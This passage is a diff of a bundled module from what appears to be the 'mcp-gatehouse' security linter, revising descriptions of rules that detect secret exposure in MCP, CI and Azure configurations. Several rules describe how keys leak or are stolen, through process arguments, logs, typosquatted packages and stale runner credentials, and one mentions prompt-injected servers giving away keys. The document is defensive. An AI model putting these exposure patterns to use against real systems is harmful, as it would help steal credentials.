@@ -1,8 +1,10 @@
-export const id = 6793;
+"use strict";
 
-export const ids = [ 6793 ];
+exports.id = 6793;
 
-export const modules = {
+exports.ids = [ 6793 ];
+
+exports.modules = {
  74852: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
   __webpack_require__.d(__webpack_exports__, {
    C: () => about
@@ -11,7 +13,7 @@ export const modules = {
   const about = {
    summary: "Package or option that the official Claude CLI does not have",
    why: "Anthropic publishes its CLI on npm as `@anthropic-ai/claude-code`. `pip install claude-cli` fetches what somebody else published under a name that sounds right, and runs it beside the API key. The official `claude` has no `--api-key`, `--prompt` or `--output-file` either: a command line with them fails, or it was written for another program; and a key among the arguments is shown to every process of the machine.",
-   fix: 'Install `@anthropic-ai/claude-code` from npm with its version, hand the key over as `ANTHROPIC_API_KEY` in `env`, and ask with `claude -p "…" > answer.md`. The rule knows names and options that are certainly wrong, and says nothing of others.',
+   fix: 'Install `@anthropic-ai/claude-code` from npm with its version, pass the key as `ANTHROPIC_API_KEY` in `env`, and ask with `claude -p "…" > answer.md`. The rule knows names and options that are certainly wrong, and says nothing of others.',
    securitySeverity: 6,
    references: [ "https://docs.anthropic.com/en/docs/claude-code/cli-reference" ],
    bad: {
@@ -73,12 +75,12 @@ export const modules = {
    rules: () => rules
   });
   var about = __webpack_require__(52801);
-  var artifacts = __webpack_require__(13476);
+  var artifacts = __webpack_require__(13104);
   // CONCATENATED MODULE: ./build/shared/lint/rules/audit-chain/alert-window.about.js
   const rule = (by, frequency) => `resource alert 'Microsoft.Insights/scheduledQueryRules@2023-12-01' = {\n  name: 'mcp-volume'\n  location: 'westeurope'\n  properties: {\n    severity: 1\n    scopes: [workspaceId]\n    evaluationFrequency: '${frequency}'\n    windowSize: 'PT1H'\n    criteria: {\n      allOf: [\n        {\n          query: '''\n            MCPAuditLog_CL\n            | where tool_name startswith "read_"\n            | summarize Reads = count() by caller_oid${by}\n            | where Reads > 100\n          '''\n          timeAggregation: 'Count'\n          operator: 'GreaterThan'\n          threshold: 0\n        }\n      ]\n    }\n    actions: { actionGroups: [actionGroupId] }\n  }\n}\n\nparam workspaceId string\nparam actionGroupId string\n`;
   const alert_window_about_about = {
    summary: "Alert on MCP calls misses events at the edge of its window",
-   why: "Counts in bins of an hour begin anew with each hour: a hundred reads before the edge and a hundred after it stay below a limit of a hundred, for good. So it is with a rule that looks back less far than to its last run, and with a count over a day in a rule that is handed a quarter of an hour. `Hour > 20` lets the hour from 20:00 to 20:59 pass; the hour of `TimeGenerated` is that of UTC; and all pipelines have the same, empty, user name. Hunting queries and saved searches are left alone: people look at their results.",
+   why: "Counts in bins of an hour begin anew with each hour: a hundred reads before the edge and a hundred after it stay below a limit of a hundred, for good. So it is with a rule that looks back less far than to its last run, and with a count over a day in a rule that is passed a quarter of an hour. `Hour > 20` lets the hour from 20:00 to 20:59 pass; the hour of `TimeGenerated` is that of UTC; and all pipelines have the same, empty, user name. Hunting queries and saved searches are left alone: people look at their results.",
    fix: "Let the rule slide: no `bin`, a window as long as the limit means, and a frequency of a few minutes. Compare hours with `>=`, in the local time of `datetime_utc_to_local`. Group by `caller_oid`.",
    securitySeverity: 5.3,
    references: [ "https://learn.microsoft.com/azure/azure-monitor/alerts/alerts-create-log-alert-rule", "https://learn.microsoft.com/kusto/query/bin-function", "https://learn.microsoft.com/kusto/query/datetime-utc-to-local-function" ],
@@ -112,8 +114,8 @@ export const modules = {
   const silent_alert_about_rule = more => `resource "azurerm_monitor_scheduled_query_rules_alert_v2" "secrets" {\n  name                 = "mcp-secrets"\n  resource_group_name  = "rg-mcp"\n  location             = "westeurope"\n  scopes               = [var.workspace_id]\n  severity             = 1\n  evaluation_frequency = "PT5M"\n  window_duration      = "PT10M"\n\n  criteria {\n    query                   = "MCPAuditLog_CL | where tool_class == 'secrets' and isnotempty(caller_upn)"\n    time_aggregation_method = "Count"\n    operator                = "GreaterThan"\n    threshold               = 0\n  }\n${more}}\n`;
   const silent_alert_about_about = {
    summary: "Alert on MCP calls is disabled or notifies no one",
-   why: "A rule that is switched off, or has no action group, finds what it looks for and says nothing; a query in a file that no rule runs finds nothing at all. In the incident behind this project the records were there for three weeks. Only rules and queries over tables of MCP calls are looked at, and queries in files only where no rule of the repository reads them.",
-   fix: "Give the rule an action group that somebody reads, and switch it on. Run each query by a rule: `mcp-gatehouse detect --emit terraform` writes rules with their queries.",
+   why: "A rule that is disabled, or has no action group, finds what it looks for and says nothing. So does one whose action group is disabled or has no receiver, and one whose notifications an alert processing rule takes away. A rule that reads another workspace than the records go to, and a query in a file that no rule runs, find nothing at all. In the incident behind this project the records were there for three weeks. Only rules and queries over tables of MCP calls are looked at, and queries in files only where no rule of the repository reads them.",
+   fix: "Give the rule an action group with a receiver, switch both on, and let it read the workspace that the data collection rule writes into. Run each query by a rule: `mcp-gatehouse detect --emit terraform` writes rules with their queries.",
    securitySeverity: 5.3,
    references: [ "https://learn.microsoft.com/azure/azure-monitor/alerts/action-groups" ],
    bad: {
@@ -193,7 +195,7 @@ export const modules = {
   const unassigned_policy_about_definition = `resource "azurerm_policy_definition" "mcp_identity" {\n  name         = "mcp-user-assigned-identity"\n  display_name = "MCP servers have a user-assigned identity"\n  policy_type  = "Custom"\n  mode         = "Indexed"\n  policy_rule = jsonencode({\n    if = {\n      allOf = [\n        { field = "type", equals = "Microsoft.ContainerInstance/containerGroups" },\n        { field = "identity.type", notContains = "UserAssigned" }\n      ]\n    }\n    then = { effect = "Deny" }\n  })\n}\n`;
   const unassigned_policy_about_about = {
    summary: "Policy for MCP servers is not assigned, or only to a resource group",
-   why: "A definition is a text in a library: Azure evaluates it where it is assigned. Assigned to the resource group of the servers it says nothing of a server that is put elsewhere, and that is the server it was written for. Where the definition is handed on as an output, another repository may assign it, and the rule stays silent.",
+   why: "A definition is a text in a library: Azure evaluates it where it is assigned. Assigned to the resource group of the servers it says nothing of a server that is put elsewhere, and that is the server it was written for. Where the definition is passed on as an output, another repository may assign it, and the rule stays silent.",
    fix: "Assign the policy, or an initiative that has it, to the subscription or to a management group. If another repository assigns it, ignore the finding with that reason.",
    securitySeverity: 5.3,
    references: [ "https://learn.microsoft.com/azure/governance/policy/concepts/assignment-structure" ],
@@ -250,7 +252,7 @@ export const modules = {
   };
   var azure_policy = __webpack_require__(47895);
   var credentials_about = __webpack_require__(42256);
-  var credentials = __webpack_require__(49876);
+  var credentials = __webpack_require__(60713);
   // CONCATENATED MODULE: ./build/shared/lint/rules/entra/broad-graph-permission.about.js
   const permission = id => `resource "azuread_application" "mcp" {\n  display_name = "MCP server"\n\n  required_resource_access {\n    resource_app_id = "00000003-0000-0000-c000-000000000000"\n\n    resource_access {\n      id   = "${id}"\n      type = "Role"\n    }\n  }\n}\n`;
   const broad_graph_permission_about_about = {
@@ -419,7 +421,7 @@ export const modules = {
   // CONCATENATED MODULE: ./build/shared/lint/rules/federation/ineffective-wildcard.about.js
   const ineffective_wildcard_about_about = {
    summary: "Wildcard in a federated subject that is compared exactly and never matches",
-   why: "The `subject` of an Entra federated credential, values of AWS `StringEquals` and `==` in Google Cloud compare letter by letter. A star is a star: creation succeeds, and no token ever matches. It shows what somebody wanted, and when it does not work, people widen something else until it does: the role, the audience, or the expression.",
+   why: "The `subject` of an Entra federated credential, values of AWS `StringEquals` and `==` in Google Cloud compare exactly. A star is a star: creation succeeds, and no token ever matches. It shows what somebody wanted, and when it does not work, people widen something else until it does: the role, the audience, or the expression.",
    fix: "Delete the credential, or put the one subject into it that the job has: `repo:acme/app:environment:production`. The step `mcp-gatehouse token` with `explain` prints the subject of a job.",
    securitySeverity: 4,
    references: [ "https://learn.microsoft.com/entra/workload-id/workload-identity-federation-considerations", "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_condition_operators.html" ],
@@ -467,7 +469,7 @@ export const modules = {
   // CONCATENATED MODULE: ./build/shared/lint/rules/federation/missing-audience.about.js
   const missing_audience_about_about = {
    summary: "Federated identity takes tokens that were made for somebody else",
-   why: "The audience of a token says for whom it was made. A job that sends its token to another service hands that service whatever the token opens: without a test of `aud`, or with one that also holds when the claim is missing (`ForAllValues:`, `…IfExists`), that is this identity too.",
+   why: "The audience of a token says for whom it was made. A job that sends its token to another service gives that service whatever the token opens: without a test of `aud`, or with one that also holds when the claim is missing (`ForAllValues:`, `…IfExists`), that is this identity too.",
    fix: "Test the audience with a plain `StringEquals` on the `:aud` key of the provider, such as `sts.amazonaws.com`. In Google Cloud leave `allowed_audiences` empty: the default is the name of the provider itself. In Entra use `api://AzureADTokenExchange` and request the token for it alone.",
    securitySeverity: 6.8,
    references: [ "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_condition-single-vs-multi-valued-context-keys.html", "https://cloud.google.com/iam/docs/workload-identity-federation-with-deployment-pipelines" ],
@@ -547,7 +549,7 @@ export const modules = {
   // CONCATENATED MODULE: ./build/shared/lint/rules/federation/unmatchable-subject.about.js
   const unmatchable_subject_about_about = {
    summary: "Federated subject or issuer is written so that no token ever matches",
-   why: "Subjects and issuers are compared letter by letter, and a wrong one is created without any error. The job then fails with AADSTS700213, and what people do next is the danger: they add a wider credential, or go back to a client secret.",
+   why: "Subjects and issuers are compared exactly, and a wrong one is created without any error. The job then fails with AADSTS700213, and what people do next is the danger: they add a wider credential, or go back to a client secret.",
    fix: "Put in the subject that the job really has: `mcp-gatehouse token` with `explain` prints it. Forms of GitHub: `repo:OWNER/REPO:environment:NAME`, `…:ref:refs/heads/BRANCH`, `…:ref:refs/tags/TAG`, `…:pull_request`.",
    securitySeverity: 3,
    references: [ "https://docs.github.com/actions/reference/security/oidc", "https://learn.microsoft.com/entra/workload-id/workload-identity-federation-considerations" ],
@@ -918,7 +920,7 @@ export const modules = {
   // CONCATENATED MODULE: ./build/shared/lint/rules/governance/public-data-store.about.js
   const public_data_store_about_about = {
    summary: "Data store of an MCP deployment is open to all networks",
-   why: "A server that is told by a prompt to hand over a key or a token is a matter of time; what the key opens should then not be reached from everywhere. A storage account, vault, registry or database that every network reaches is one leaked key away from the Internet. An event hub is reported where it also takes shared keys. What has a private endpoint, or rules about networks that let in some only, is left alone.",
+   why: "A server that is told by a prompt to give away a key or a token is a matter of time; what the key opens should then not be reached from everywhere. A storage account, vault, registry or database that every network reaches is one leaked key away from the Internet. An event hub is reported where it also takes shared keys. What has a private endpoint, or rules about networks that let in some only, is left alone.",
    fix: "Turn public access off and reach the store by a private endpoint, or let in the subnets that need it alone.",
    securitySeverity: 5.6,
    references: [ "https://learn.microsoft.com/azure/private-link/private-endpoint-overview" ],
@@ -1002,7 +1004,7 @@ export const modules = {
   const secret_output_about_about = {
    summary: "Key or password is exposed by an output",
    why: "Outputs of a deployment stand in its history, where everyone who may read the resource group can see them, for as long as the history is kept. Outputs of Terraform are printed into the log of the pipeline unless they are marked. A key that stands there works from anywhere, and the copy goes unnoticed.",
-   fix: "Hand out the id or the endpoint, and let the reader use an identity with a role. If a key has to be passed on, write it to Key Vault in the same deployment, or mark the output `sensitive = true` (Terraform), `@secure()` (Bicep), `securestring` (ARM).",
+   fix: "Expose the id or the endpoint, and let the reader use an identity with a role. If a key has to be passed on, write it to Key Vault in the same deployment, or mark the output `sensitive = true` (Terraform), `@secure()` (Bicep), `securestring` (ARM).",
    securitySeverity: 6.5,
    references: [ "https://learn.microsoft.com/azure/azure-resource-manager/bicep/linter-rule-outputs-should-not-contain-secrets", "https://developer.hashicorp.com/terraform/language/values/outputs" ],
    bad: {
@@ -1049,7 +1051,7 @@ export const modules = {
   // CONCATENATED MODULE: ./build/shared/lint/rules/governance/unattached-network-rules.about.js
   const unattached_network_rules_about_about = {
    summary: "Network security group is attached to nothing",
-   why: "A network security group has an effect only on the subnets and network interfaces that it is attached to. One that is declared and never attached reads as protection in a review, and lets everything through. A group that is handed on, by an output or to a module, is never reported, as it may be attached elsewhere.",
+   why: "A network security group has an effect only on the subnets and network interfaces that it is attached to. One that is declared and never attached reads as protection in a review, and lets everything through. A group that is passed on, by an output or to a module, is never reported, as it may be attached elsewhere.",
    fix: "Attach it: `azurerm_subnet_network_security_group_association` in Terraform, `networkSecurityGroup` in the properties of the subnet in Bicep and ARM. Delete a group that nobody needs.",
    securitySeverity: 5.9,
    references: [ "https://learn.microsoft.com/azure/virtual-network/network-security-group-how-it-works" ],
@@ -1113,7 +1115,7 @@ export const modules = {
    "unencrypted-endpoint": unencrypted_endpoint_about_about,
    "unpinned-image": unpinned_image_about_about
   };
-  var governance = __webpack_require__(26297);
+  var governance = __webpack_require__(21179);
   // CONCATENATED MODULE: ./build/shared/lint/rules/house/invalid-ignore.about.js
   const invalid_ignore_about_about = {
    summary: "An ignore has no reason, names no known rule or has ended",
@@ -1132,7 +1134,7 @@ export const modules = {
   };
   // CONCATENATED MODULE: ./build/shared/lint/rules/house/overridden-setting.about.js
   const overridden_setting_about_about = {
-   summary: "A setting of the repository is not applied: the organisation's policy does not leave it open",
+   summary: "A setting of the repository is not applied: the organization's policy does not leave it open",
    why: "A repository under a central policy may be stricter than it, and looser only where the policy says so in `may-relax`. A severity, an ignore, a baseline or an allow-list that goes further is left out, and what the policy says stays in force. This finding marks the line, so that nobody believes it holds.",
    fix: "Remove the setting and fix what it was for. Where the repository has a good reason, ask the owners of the policy to open the setting, or the one rule, in `may-relax`.",
    securitySeverity: 1,
@@ -1150,8 +1152,8 @@ export const modules = {
   // CONCATENATED MODULE: ./build/shared/lint/rules/house/self-exempting-change.about.js
   const self_exempting_change_about_about = {
    summary: "A pull request loosens the configuration, baseline, workflow or ignore that judges it",
-   why: "A pull request is judged by files that it brings along: the configuration of this tool, its baseline, the workflow or pipeline that runs it, and the ignore comments. One that adds a stored credential together with the ignore for it is green, and the reviewer sees a green check. This finding says what a change loosens and where, so that somebody decides it on purpose. No ignore and no baseline silences it, since the same change could bring those as well. Changes that only make things stricter are not reported.",
-   fix: "Look at the change as you would at a change of permissions. Where it is wanted, approve it, or merge it first and by itself. With `config-from: base` the configuration and the baseline of the base judge the pull request; with code owners for these files, each such change has a reviewer; with a policy of the organisation, a repository cannot loosen what the policy keeps. To leave the check out, set the rule to `off` in the base.",
+   why: "A pull request is judged by files that it brings along: the configuration of this tool, its baseline, the workflow or pipeline that runs it, and the ignore comments. One that adds a stored credential together with the ignore for it is green, and the reviewer sees a green check. This finding says what a change loosens and where, so that somebody decides it on purpose. No ignore and no baseline silences it, since the same change could bring those as well. A command that a change adds before the check and that rewrites the configuration or the baseline, or checks another commit out, is reported too, as far as its words say so; what a program or another script does is not seen. Changes that only make things stricter are not reported.",
+   fix: "Look at the change as you would at a change of permissions. Where it is wanted, approve it, or merge it first and by itself. With `config-from: base` the configuration and the baseline of the base judge the pull request; with code owners for these files, each such change has a reviewer; with a policy of the organization, a repository cannot loosen what the policy keeps. To leave the check out, set the rule to `off` in the base.",
    securitySeverity: 5,
    references: [],
    bad: {
@@ -1347,7 +1349,7 @@ export const modules = {
   const config_written_in_script_about_about = {
    summary: "A CI step writes secrets into the configuration of an MCP client",
    why: "The secret is put into a file as text: it stays on a self-hosted runner, goes into an artifact or a cache with the folder, and is read by every later step. In a JSON string it has another form than the one that the CI system masks, so printing the file shows it. On a command line every process of the machine sees it.",
-   fix: "Quote the here-document (`<<'EOF'`) and write a reference of the client (`${NAME}`); hand the secret to the step that starts the client in `env:`. The client puts it in itself, and nothing is written.",
+   fix: "Quote the here-document (`<<'EOF'`) and write a reference of the client (`${NAME}`); pass the secret to the step that starts the client in `env:`. The client puts it in itself, and nothing is written.",
    securitySeverity: 6,
    references: [ "https://docs.github.com/en/actions/reference/security/secure-use#using-secrets", "https://code.claude.com/docs/en/mcp" ],
    bad: {
@@ -1361,9 +1363,9 @@ export const modules = {
   };
   // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/credential-in-arguments.about.js
   const credential_in_arguments_about_about = {
-   summary: "A credential is handed to an MCP server as an argument",
+   summary: "A credential is passed to an MCP server as an argument",
    why: "Arguments of a process are no secret: every user of the machine sees them in the list of processes, and crash reports, audit logs and monitoring keep them. That holds for a reference too, once the client has put its value in.",
-   fix: "Hand the credential over in the environment: most servers that take `--api-key` also read a variable such as `API_KEY`. For a container name the variable alone (`-e API_KEY`) and set it in `env`.",
+   fix: "Pass the credential in the environment: most servers that take `--api-key` also read a variable such as `API_KEY`. For a container name the variable alone (`-e API_KEY`) and set it in `env`.",
    securitySeverity: 5,
    references: [ "https://cwe.mitre.org/data/definitions/214.html" ],
    bad: {
@@ -1395,7 +1397,7 @@ export const modules = {
   // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/host-mount.about.js
   const host_mount_about_about = {
    summary: "The container of an MCP server has the host",
-   why: "A container keeps a server away from the machine only as far as nothing is handed in. The socket of the container engine, `--privileged`, the host's root or a whole home folder undo all of it: who controls the server controls the host. The entry still looks contained.",
+   why: "A container keeps a server away from the machine only as far as nothing is passed in. The socket of the container engine, `--privileged`, the host's root or a whole home folder undo all of it: who controls the server controls the host. The entry still looks contained.",
    fix: "Mount the one folder that the server works on, read-only where reading is enough, and leave out the socket and `--privileged`. A server that manages containers needs a host of its own.",
    securitySeverity: 8.8,
    references: [ "https://docs.docker.com/engine/security/#docker-daemon-attack-surface", "https://cwe.mitre.org/data/definitions/250.html" ],
@@ -1427,7 +1429,7 @@ export const modules = {
   // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/root-filesystem.about.js
   const root_filesystem_about_about = {
    summary: "MCP server has access to a root of the file system",
-   why: "A server that may read `/`, a drive or all homes hands every key, token and document on the machine to whatever the model is talked into. A prompt in an issue or a web page is enough: no exploit is needed, reading files is what the server is for.",
+   why: "A server that may read `/`, a drive or all homes gives every key, token and document on the machine to whatever the model is talked into. A prompt in an issue or a web page is enough: no exploit is needed, reading files is what the server is for.",
    fix: "Give the server the one folder it works on: `.`, `${workspaceFolder}` or a path inside the workspace. For a container, mount that folder and nothing above it, read-only where reading is enough. A folder that servers are meant to have can be named in `filesystem-roots` of the configuration.",
    securitySeverity: 8.8,
    references: [ "https://modelcontextprotocol.io/specification/2025-06-18/client/roots", "https://cwe.mitre.org/data/definitions/732.html" ],
@@ -1443,7 +1445,7 @@ export const modules = {
   // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/secrets-service-access.about.js
   const secrets_service_access_about_about = {
    summary: "MCP server reaches a secrets manager with a personal key",
-   why: "With such a server the model can read, and be talked into handing on, every secret that the key opens. The key is a person's or a service account's and lives long; the manager's log shows its owner, not the agent.",
+   why: "With such a server the model can read, and be talked into passing on, every secret that the key opens. The key is a person's or a service account's and lives long; the manager's log shows its owner, not the agent.",
    fix: "Keep secrets managers out of the reach of agents. What a job needs it can read by its own identity before the agent starts (`mcp-gatehouse secrets`), by name and just in time.",
    securitySeverity: 7.5,
    references: [ "https://genai.owasp.org/llmrisk/llm062025-excessive-agency/", "https://cheatsheetseries.owasp.org/cheatsheets/Secrets_Management_Cheat_Sheet.html" ],
@@ -1524,7 +1526,7 @@ export const modules = {
   const unpinned_server_about_about = {
    summary: "MCP servers are fetched without an exact version",
    why: "Without an exact version `npx`, `uvx` and `docker run` fetch whatever the package's owner, or who has taken over the account, published last. The server runs with the rights and the credentials of anyone who starts it, and tools that were reviewed can change with the next start.",
-   fix: "Name the version: `package@1.2.3` for npm, `package==1.2.3` for Python, `image@sha256:…` for containers, `…@<commit>` for repositories; let a bot raise it. In a CI job it is a warning, since the job holds secrets.",
+   fix: "Pin the version: `package@1.2.3` for npm, `package==1.2.3` for Python, `image@sha256:…` for containers, `…@<commit>` for repositories; let a bot raise it. In a CI job it is a warning, since the job holds secrets.",
    securitySeverity: 4,
    references: [ "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-03-Dependency-Chain-Abuse", "https://docs.docker.com/dhi/core-concepts/digests/" ],
    bad: {
@@ -1555,7 +1557,7 @@ export const modules = {
   // CONCATENATED MODULE: ./build/shared/lint/rules/mcp/wrong-reference-syntax.about.js
   const wrong_reference_syntax_about_about = {
    summary: "A reference is written in the syntax of another MCP client",
-   why: "Each client expands references in its own syntax and leaves all others as they are. `${API_KEY}` in the configuration of opencode is no reference: the server gets these ten characters as its key, fails to log in, and the next thing that people try is the key itself in clear. It also tells the server which secrets there are.",
+   why: "Each client expands references in its own syntax and leaves all others as they are. `${API_KEY}` in the configuration of opencode is no reference: the server gets these ten characters as its key, fails to log in, and the next thing that people try is the key itself in plain text. It also tells the server which secrets there are.",
    fix: "Write the reference as the client of this file reads it: `${NAME}` for Claude Code and Copilot CLI, `${env:NAME}` or `${input:name}` for VS Code, `${env:NAME}` for Cline and Roo Code, `{env:NAME}` for opencode, `$NAME` for Gemini CLI, `env_vars` or `bearer_token_env_var` for Codex. Where a vendor does not say what its client expands, the finding is only a note.",
    securitySeverity: 4.5,
    references: [ "https://code.claude.com/docs/en/mcp", "https://code.visualstudio.com/docs/copilot/reference/mcp-configuration", "https://opencode.ai/docs/config/#variables" ],
@@ -1597,7 +1599,7 @@ export const modules = {
   // CONCATENATED MODULE: ./build/shared/lint/rules/people/departed-person.about.js
   const departed_person_about_about = {
    summary: "Right, review, trust or alert of a person who has left",
-   why: "An account is closed on the last day, and what was given to it by name stays in repositories: members of groups, role assignments, bindings of clusters, reviewers of environments, lines of CODEOWNERS, conditions on who started a run, receivers of alerts. Some of it works again as soon as somebody takes the login or the address. A federated subject names a repository and not a person; only the repositories of a personal account carry a name, and that is where a subject is reported. The rule runs where the configuration names a people file. It compares logins, user principal names, object ids and addresses as a whole: authors, comments, tags and descriptions are no rights, and a surname that is a word is nobody.",
+   why: "An account is closed on the last day, and what was given to it by name stays in repositories: members of groups, role assignments, bindings of clusters, reviewers of environments, lines of CODEOWNERS, conditions on who started a run, receivers of alerts, users in values of Helm charts. Some of it works again as soon as somebody takes the login or the address. A federated subject names a repository and not a person; only the repositories of a personal account carry a name, and that is where a subject is reported. The rule runs where the configuration names a people file. It compares logins, user principal names, object ids and addresses as a whole: authors, comments, tags, labels, annotations and descriptions are no rights, and a surname that is a word is nobody.",
    fix: "Delete the entry, or name a team or group in its place. `mcp-gatehouse offboard` lists everything of one person, with the commands for what is outside of the repository.",
    securitySeverity: 8,
    references: [ "https://learn.microsoft.com/entra/identity/users/users-revoke-access", "https://docs.github.com/repositories/managing-your-repositorys-settings-and-features/customizing-your-repository/about-code-owners", "https://docs.github.com/actions/reference/security/oidc" ],
@@ -1615,7 +1617,7 @@ export const modules = {
   // CONCATENATED MODULE: ./build/shared/lint/rules/people/personal-credential.about.js
   const personal_credential_about_about = {
    summary: "Credential of a person who has left, in a pipeline or on a runner",
-   why: "A personal access token works until it expires or is revoked, no matter who holds it by then, and pipelines go on with it for years. In the incident that this project began with, a runner had the cached credentials of somebody who had left, and read documents at night for three weeks. Reported are secrets, variables and service connections that are named after a person who has left, homes of such a person on runners, and runners that get a token of which nothing says whose it is. Tokens of bots and apps are left alone. The rule runs where the configuration names a people file; a given name alone is a guess, and such findings have a low confidence.",
+   why: "A personal access token works until it expires or is revoked, no matter who holds it by then, and pipelines go on with it for years. In the incident that this project began with, a runner had the cached credentials of somebody who had left, and read documents at night for three weeks. Reported are secrets, variables and service connections that are named after a person who has left, in workflows, pipelines and infrastructure; secrets of a cluster that a workload, a Helm chart or a secret store reads by such a name; homes of such a person on runners, and runners that get a token of which nothing says whose it is. A virtual machine counts as a runner where what it runs at its first start sets one up: custom data, user data and extensions, also as templates and encoded. Of charts, files of values, releases of Flux and Terraform and applications of Argo CD are read; of a self-hosted runner, `.env`, `.credentials` and the like. Tokens of bots and apps are left alone. The rule runs where the configuration names a people file; a given name alone is a guess, and such findings have a low confidence.",
    fix: "Revoke the credential where it was issued, and delete it. Use a federated identity (`mcp-gatehouse token`), the `GITHUB_TOKEN` of the job, or the token of a GitHub App.",
    securitySeverity: 7,
    references: [ "https://docs.github.com/organizations/managing-programmatic-access-to-your-organization/reviewing-and-revoking-personal-access-tokens-in-your-organization", "https://learn.microsoft.com/azure/devops/organizations/accounts/admin-revoke-user-pats" ],
@@ -1633,7 +1635,7 @@ export const modules = {
   // CONCATENATED MODULE: ./build/shared/lint/rules/people/personal-runner.about.js
   const personal_runner_about_about = {
    summary: "Runner, agent or pool of a person who has left",
-   why: "A runner on the machine of one person runs with what that person left on it: sessions of `az` and `gh`, keys, tokens in the environment, earlier check-outs. When the person leaves, the machine often goes on, and nobody else knows what is on it. Reported are labels and pools that are named after a person who has left, and units of systemd and jobs of launchd that run as one or are named after one. The rule runs where the configuration names a people file; a given name alone is a guess, and such findings have a low confidence.",
+   why: "A runner on the machine of one person runs with what that person left on it: sessions of `az` and `gh`, keys, tokens in the environment, earlier check-outs. When the person leaves, the machine often goes on, and nobody else knows what is on it. Reported are labels, pools, machines and scale sets that are named after a person who has left, also in values of Helm charts and in the settings that a runner keeps in its folder (`.runner`, `.agent`, `.service`); runners that are registered with the account of one; and units of systemd and jobs of launchd that run as one or are named after one. The rule runs where the configuration names a people file; a given name alone is a guess, and such findings have a low confidence.",
    fix: "Stop the runner, take it out of the organization, and delete what is cached on the machine. Run the jobs on runners that belong to a team, with an account of their own.",
    securitySeverity: 6,
    references: [ "https://docs.github.com/actions/how-tos/manage-runners/self-hosted-runners/remove-runners", "https://learn.microsoft.com/azure/devops/pipelines/agents/pools-queues" ],
@@ -1654,7 +1656,7 @@ export const modules = {
    "personal-credential": personal_credential_about_about,
    "personal-runner": personal_runner_about_about
   };
-  var people = __webpack_require__(33028);
+  var people = __webpack_require__(18789);
   var pipelines_about = __webpack_require__(13417);
   var pipelines = __webpack_require__(1861);
   // CONCATENATED MODULE: ./build/shared/lint/rules/roles/broad-role.about.js
@@ -1908,8 +1910,8 @@ export const modules = {
   });
   const about = {
    summary: "Secret written to the log",
-   why: "Logs are kept for months, are readable by everyone who can read the repository, and are copied to other systems. Masking replaces exactly the text that was stored: one more quote, a line break, an encoding or a part of it, and the secret stands there in clear. A token that a command fetched is not masked at all.",
-   fix: "Do not print it. To see whether a secret is there, test that it is not empty; to compare two, print a keyed digest. To hand a secret to a program, pipe it into its standard input.",
+   why: "Logs are kept for months, are readable by everyone who can read the repository, and are copied to other systems. Masking replaces exactly the text that was stored: one more quote, a line break, an encoding or a part of it, and the secret stands there in plain text. A token that a command fetched is not masked at all.",
+   fix: "Do not print it. To see whether a secret is there, test that it is not empty; to compare two, print a keyed digest. To pass a secret to a program, pipe it into its standard input.",
    securitySeverity: 8,
    references: [ "https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information", "https://learn.microsoft.com/en-us/azure/devops/pipelines/security/secrets" ],
    bad: {
@@ -1947,8 +1949,8 @@ export const modules = {
    C: () => about
   });
   const about = {
-   summary: "All secrets are handed to a job at once",
-   why: "A runner gets only the secrets that the workflow names. `toJSON(secrets)` and `secrets[…]` with a computed name make GitHub send every secret of the repository and the organisation, and a Key Vault task with `*` downloads the whole vault: one compromised step then has them all, and no review shows which are used.",
+   summary: "All secrets are passed to a job at once",
+   why: "A runner gets only the secrets that the workflow names. `toJSON(secrets)` and `secrets[…]` with a computed name make GitHub send every secret of the repository and the organization, and a Key Vault task with `*` downloads the whole vault: one compromised step then has them all, and no review shows which are used.",
    fix: "Name each secret: `${{ secrets.NAME }}`, in the `env` of the step that needs it. To choose by environment, put the secret under one name into several environments. For Key Vault list the names in `SecretsFilter`.",
    securitySeverity: 8,
    references: [ "https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information", "https://learn.microsoft.com/en-us/azure/devops/pipelines/tasks/reference/azure-key-vault-v2" ],
@@ -1967,8 +1969,8 @@ export const modules = {
    C: () => about
   });
   const about = {
-   summary: "secrets: inherit hands every secret to the called workflow",
-   why: "`secrets: inherit` gives the called workflow every secret of the repository and the organisation that the caller can see, now and in future, whether it needs it or not. Anyone who can change that workflow, or what it runs, has them all, and the caller does not show which ones are in use.",
+   summary: "secrets: inherit passes every secret to the called workflow",
+   why: "`secrets: inherit` gives the called workflow every secret of the repository and the organization that the caller can see, now and in future, whether it needs it or not. Anyone who can change that workflow, or what it runs, has them all, and the caller does not show which ones are in use.",
    fix: "Pass the secrets that the workflow declares, by name: `secrets:` with one line for each. A called workflow of the same repository is only noted: it is reviewed with its caller, and secrets of environments can be had no other way.",
    securitySeverity: 5.5,
    references: [ "https://docs.github.com/en/actions/how-tos/reuse-automations/reuse-workflows#passing-inputs-and-secrets-to-a-reusable-workflow" ],
@@ -2028,7 +2030,7 @@ export const modules = {
   });
   const about = {
    summary: "Part of a structured secret is used without a mask",
-   why: "The runner masks a secret as a whole, as it was stored. What is taken out of it (a field of a JSON document, the decoded form of a base64 text) is another string, and is printed in clear wherever it comes up: in a log, a summary, an error message.",
+   why: "The runner masks a secret as a whole, as it was stored. What is taken out of it (a field of a JSON document, the decoded form of a base64 text) is another string, and is printed in plain text wherever it comes up: in a log, a summary, an error message.",
    fix: 'Store each value as a secret of its own. Where that cannot be, mask the part before anything else sees it: `echo "::add-mask::$PART"`, or `##vso[task.setsecret]` in Azure Pipelines.',
    securitySeverity: 5.5,
    references: [ "https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information" ],
@@ -2067,9 +2069,9 @@ export const modules = {
    C: () => about
   });
   const about = {
-   summary: "Token handed to later steps before it is masked",
-   why: "The runner hides stored secrets in logs. A token that a command fetched, or a part of a secret that a script took out, it does not know: once that is an output, a variable or part of the environment, any later step prints it in clear, with an error message, a debug line or a list of the environment. In Azure Pipelines a variable set without `issecret=true` is also put into the environment of every later step.",
-   fix: 'Mask first, hand on after: `echo "::add-mask::$TOKEN"` in the line after the token was fetched. In Azure Pipelines set the variable with `issecret=true`. Better still, use the token in the step that fetches it.',
+   summary: "Token passed to later steps before it is masked",
